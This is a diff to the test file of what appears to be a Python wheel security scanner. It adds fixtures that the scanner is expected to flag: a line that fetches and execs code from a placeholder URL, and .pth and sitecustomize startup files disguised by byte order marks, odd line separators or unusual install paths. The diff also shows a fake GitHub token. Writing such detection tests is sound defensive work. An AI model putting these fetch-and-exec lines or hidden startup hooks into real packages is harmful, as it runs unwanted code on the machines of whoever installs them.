@@ -29,6 +29,7 @@ PACKED = base64.b85encode(zlib.compress(CODE.encode())).decode()
 MARSHALLED = base64.b64encode(marshal.dumps(compile(CODE, "x", "exec"))).decode()
 TOKEN = "ghp_" + "9f8Kd73hQz1LmNpR5sTvWx2Yb4Cg6EaJ0uIo"
 ELF_PROGRAM = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00" + bytes(200)
+ELF_LIBRARY = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00" + bytes(200)
 SCRIPTS = "[console_scripts]\ndemo = {}\n"
 DIST_INFO = "demo-{}.dist-info"
 
@@ -216,6 +217,10 @@ HIDING: Mapping[str, tuple[str, str]] = {
     "data without width": ("import os\nx = '" + "\ufe01" * 40 + "'\n", "hidden-data"),
     "invisible characters": ("import os\nos.system('i\u200bd')\n", "invisible-characters"),
     "an odd encoding": ("# coding: utf-7\nimport os\n", "odd-encoding"),
+    "code from the network": (
+        "import urllib.request as r\nexec(r.urlopen('https://files.example/x').read())\n",
+        "fetched-code",
+    ),
     "an encoded literal": (
         "import base64, os\nDATA = base64.b64decode('"
         + base64.b64encode(zlib.compress(bytes(range(256)) * 4 + TOKEN.encode() * 30, 0)).decode()
@@ -233,6 +238,39 @@ def test_hiding(way: str) -> None:
     found = findings_on(wheel("1.1", {"demo/core.py": source}), BEFORE)
 
     assert code in {one.code for one in found if one.level is Level.WARN}
+
+
+STARTS: Mapping[str, tuple[str, bytes, str]] = {
+    "a byte order mark": ("boot.pth", b"\xef\xbb\xbfimport demo\n", "pth-code"),
+    "another line end": ("boot.pth", b"# c\x0cimport demo\n", "pth-code"),
+    "a line separator": ("boot.pth", "# c\u2028import demo\n".encode(), "pth-code"),
+    "no text": ("boot.pth", b"import demo\n\0", "pth-code"),
+    "in purelib": ("demo-1.1.data/purelib/boot.pth", b"import demo\n", "pth-code"),
+    "in site-packages": (
+        "demo-1.1.data/data/lib/python3.13/site-packages/boot.pth",
+        b"import demo\n",
+        "pth-code",
+    ),
+    "an extension": ("usercustomize.abi3.so", ELF_LIBRARY, "startup-module"),
+    "a package": ("sitecustomize/__init__.py", b"x = 1\n", "startup-module"),
+}
+
+
+@pytest.mark.parametrize("way", STARTS)
+def test_start_of_python(way: str) -> None:
+    """Whatever Python runs at its start is found, as Python sees it and wherever it goes."""
+    path, content, code = STARTS[way]
+
+    found = findings_on(wheel("1.1", extra={path: content}), BEFORE)
+
+    assert code in {one.code for one in found if one.level is Level.WARN}
+
+
+def test_path_in_a_pth_file() -> None:
+    """A .pth file that only names folders is good to know."""
+    [finding] = findings_on(wheel("1.1", extra={"demo.pth": b"# import x\n../src\n"}), BEFORE)
+
+    assert (finding.code, finding.level) == ("pth-file", Level.NOTE)
 
 
 USUAL: Mapping[str, str] = {
